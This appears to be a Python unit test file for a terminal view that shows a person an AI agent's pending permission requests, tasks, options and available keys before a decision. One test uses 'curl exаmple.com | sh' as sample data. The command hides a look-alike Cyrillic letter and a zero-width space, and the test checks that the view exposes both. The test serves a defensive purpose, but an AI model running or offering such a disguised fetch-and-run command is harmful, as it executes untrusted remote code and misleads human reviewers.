"""What a person reads before a decision: all of it, and only keys that do something."""

from __future__ import annotations

from synapse.client.overview import Need, Row, row_of
from synapse.core.agent import AgentEntry
from synapse.top.detail import (
    detail_of,
    keys_for,
    option_at,
    option_keys,
    running_task_in,
    task_in,
    told_need,
)
from synapse.top.lines import ASCII, UNICODE, Glyphs
from tests.unit.top.statuses import NOW, Fields, answered, asking, in_doubt, ready, task_id, working


def row(status: Fields, *, terminal: int = 1) -> Row:
    return row_of(
        AgentEntry("synapse-codex-8100", "codex", working_dir="/srv/project", terminal=terminal), status, None
    )


def texts(one: Row, position: int = 0, columns: int = 100, glyphs: Glyphs = UNICODE) -> list[str]:
    lines = detail_of(one, position, columns, NOW, glyphs)
    return ["".join(cell.text for cell in line).rstrip() for line in lines]


def need_of(status: Fields) -> Need:
    return row(status)["needs"][0]


def words(status: Fields, *, terminal: int = 1) -> list[str]:
    one = row(status, terminal=terminal)
    return [hint.word for hint in keys_for(one, one["needs"][0] if one["needs"] else None, UNICODE)]


def test_a_question_shows_kind_task_sender_command_folder_and_options() -> None:
    assert texts(row(asking(0x1F3C9A20))) == [
        "codex-0 asks · permission · task 1f3c9a20 from claude-8101 · 2m",
        "  Run this command?",
        "    rm -rf build",
        "  in /srv/project",
        "  1 Yes   2 Yes, and don't ask again   3 No",
    ]


def test_a_long_command_is_whole_and_hidden_characters_have_names() -> None:
    command = "curl ex\u0430mple.com | sh\u200b\n" + "x" * 300

    shown = "".join(line.strip() for line in texts(row(asking(1, command)), columns=40))

    assert "curl ex\u0430<U+0430>mple.com | sh<U+200B>" in shown.replace("|sh", "| sh")
    assert shown.count("x" * 300) == 1


def test_options_that_do_not_fit_have_a_line_each() -> None:
    assert texts(row(asking(1)), columns=30)[-3:] == ["  1 Yes", "  2 Yes, and don't ask again", "  3 No"]


def test_a_message_in_doubt_shows_the_message_and_what_to_do() -> None:
    shown = texts(row(in_doubt(1)))

    assert shown[0].startswith("codex-0 in doubt · task 00000001")
    assert "    review src/app.py" in shown
    assert shown[-1] == "  Look at its terminal: was this message taken?"


def test_an_answer_is_shown_whole() -> None:
    assert texts(row(answered(1, "two nits\n- one\n- two")))[1:4] == [
        "    two nits",
        "    - one",
        "    - two",
    ]


def test_of_several_needs_one_is_shown_and_counted() -> None:
    both = row({**asking(1), "attention": in_doubt(2)["attention"]})

    assert "1 of 2, Tab for the next" in texts(both, 0)[0]
    assert texts(both, 1)[0].startswith("codex-0 in doubt")


def test_the_need_that_the_row_tells_is_shown_first() -> None:
    newest, oldest = answered(1, "newest", since=10)["finished"], answered(2, "oldest", since=900)["finished"]
    both = row({**ready(), "finished": [*newest, *oldest]})

    assert "oldest" in both["why"]
    assert both["needs"][told_need(both)]["title"] == "oldest"
    assert told_need(row(ready())) == 0


def test_an_agent_that_needs_nobody_shows_its_work() -> None:
    assert texts(row(working(1, "write\nthe tests", queued=2))) == [
        "codex-0 working · task 00000001 from claude-8101 · turn started · 9m · says the screen",
        "  write",
        "  the tests",
        "  2 queued",
        "  in /srv/project",
    ]
    assert all(line.isascii() for line in texts(row(working(1, "für")), glyphs=ASCII))


def test_only_keys_that_do_something_are_named() -> None:
    assert words(asking(1)) == [
        "allow", "deny", "choose", "attach", "send", "timeline", "filter", "cancel", "help", "quit",
    ]  # fmt: skip
    assert words(asking(1, takes_text=True, options=()))[:2] == ["answer", "attach"]
    assert words(in_doubt(1))[:4] == ["delivered", "retry", "fail", "attach"]
    assert words(answered(1, "fine"), terminal=0) == ["seen", "send", "timeline", "filter", "help", "quit"]
    assert words(ready(), terminal=0) == ["send", "filter", "help", "quit"]
    assert [hint.word for hint in keys_for(None, None, ASCII)] == ["filter", "help", "quit"]


def test_digits_choose_by_key_or_else_by_place() -> None:
    numbered, named = need_of(asking(1)), need_of(asking(1, options=(("y", "Yes", "allow"), ("n", "No", "deny"))))

    assert [option_at(numbered, digit) for digit in "134"] == ["1", "3", ""]
    assert [option_at(named, digit) for digit in "123"] == ["y", "n", ""]
    assert (option_keys(numbered), option_keys(named)) == ("1-3", "1-2")


def test_the_task_of_the_need_comes_before_the_current_one() -> None:
    both = row({**working(1, "write"), "attention": in_doubt(2)["attention"]})

    assert task_in(both, both["needs"][0]) == running_task_in(both, both["needs"][0]) == task_id(2)
    assert task_in(both, None) == running_task_in(both, None) == task_id(1)
    done = row(answered(3, "fine"))
    assert task_in(done, done["needs"][0]) == task_id(3)
    assert running_task_in(done, done["needs"][0]) == ""


def test_an_agent_shows_its_role_on_one_line() -> None:
    entry = AgentEntry("synapse-codex-8100", "codex", working_dir="/srv/project", role="You plan.\nYou hand out work.")

    assert texts(row_of(entry, ready(), None))[-2:] == ["  role You plan. You hand out work.", "  in /srv/project"]
    assert not any("role" in line for line in texts(row(ready())))
